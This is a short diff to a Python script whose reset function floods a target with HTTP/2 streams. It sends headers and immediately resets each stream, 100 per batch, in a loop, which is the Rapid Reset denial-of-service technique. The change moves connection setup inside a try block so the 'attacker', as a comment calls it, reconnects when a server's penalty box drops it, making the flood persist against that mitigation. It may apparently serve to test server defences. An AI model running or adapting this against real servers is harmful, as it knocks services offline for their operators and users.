@@ -149,17 +149,19 @@ def reset(src, host, port, path, seconds, conns):
                 time.sleep(0.05); continue
             conn_count[0] += 1
             c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-            c.initiate_connection(); s.sendall(c.data_to_send())
-            s.setblocking(False)
             hdrs = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", host)]
+            # A connection the server resets at once (a penalty box) fails here or below: the
+            # attacker connects again, as a real one would.
             try:
+                c.initiate_connection(); s.sendall(c.data_to_send())
+                s.setblocking(False)
                 while time.monotonic() < end:
                     for _ in range(100):
                         sid = c.get_next_available_stream_id()
                         c.send_headers(sid, hdrs, end_stream=True)
                         c.reset_stream(sid)
-                        sent[0] += 1
                     s.setblocking(True); s.sendall(c.data_to_send()); s.setblocking(False)
+                    sent[0] += 100  # counted once written
                     try:
                         data = s.recv(65536)
                         if not data:
